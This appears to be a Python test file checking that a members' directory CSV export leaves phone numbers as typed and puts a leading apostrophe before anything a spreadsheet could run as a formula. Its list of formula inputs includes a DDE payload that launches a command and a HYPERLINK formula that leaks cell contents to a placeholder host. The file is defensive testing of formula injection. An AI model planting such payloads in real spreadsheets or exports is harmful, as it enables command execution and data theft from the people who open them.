"""A phone number in the office's CSV exports reads as the member typed it ("+49 5323 …"),
no apostrophe before it, and survives export and import again; anything that could run as a
formula (a function, a reference, a link, a command) still gets the leading quote."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from handlers.members.directory_import import export_directory, parse_directory
from handlers.spreadsheet import is_formula_like, safe_cell
from storage.models import Member

PHONES = ["+49 5323 72-0", "+49 (0)3741 123456", "+44 20 7946 0958", "-12", "+1.5", "+49/5323/1"]
FORMULAS = [
    "=1+1",
    "@SUM(A1)",
    '+49+HYPERLINK("http://x.example/?"&A1)',
    "-1+cmd|' /C calc'!A0",
    "+A1",
    "+1:1",
    '-2^10 & "x"',
    "+49 5323 x",
    "+\u0661\u0662",  # digits of another script: not a number to every spreadsheet
    " +49 5323",  # a space before: LibreOffice may trim it
    "\t+49",
    "+",
    "- ",
]


@pytest.mark.parametrize("phone", PHONES)
def test_a_phone_number_is_written_as_typed(phone: str) -> None:
    assert safe_cell(phone) == phone


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_could_run_as_a_formula_is_still_quoted(formula: str) -> None:
    assert is_formula_like(formula) and safe_cell(formula) == "'" + formula


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_a_cell_left_unquoted_holds_no_letter_reference_or_operator_beyond_a_number(
    value: str,
) -> None:
    cell = safe_cell(value)
    if cell.startswith("'"):
        return
    rest = cell.lstrip()
    if rest[:1] in ("+", "-"):
        assert set(rest[1:]) <= set("0123456789 ()/.-"), cell
        assert any(c.isdigit() for c in rest), cell
    else:
        assert not rest.startswith(("=", "@")), cell


def _member(contact: str) -> Member:
    return Member(
        id=3,
        external_id="ov-9",
        organisation="Pfeifenbau (fiktiv)",
        kind="company",
        city="Freiberg",
        role="Werkstatt",
        topics=["Zinnpfeifen"],
        bio="",
        languages=["de"],
        language="de",
        contact=contact,
        young_professional=False,
    )


@pytest.mark.parametrize("old_export", [False, True])
def test_a_phone_number_survives_export_and_import(old_export: bool) -> None:
    exported = export_directory([_member("+49 3731 2233-0")])
    assert ";+49 3731 2233-0" in exported, exported
    if old_export:  # a file exported before: the number with the apostrophe then written
        exported = exported.replace(";+49 3731", ";'+49 3731")
    (row,) = parse_directory(exported)
    assert row.contact == "+49 3731 2233-0"
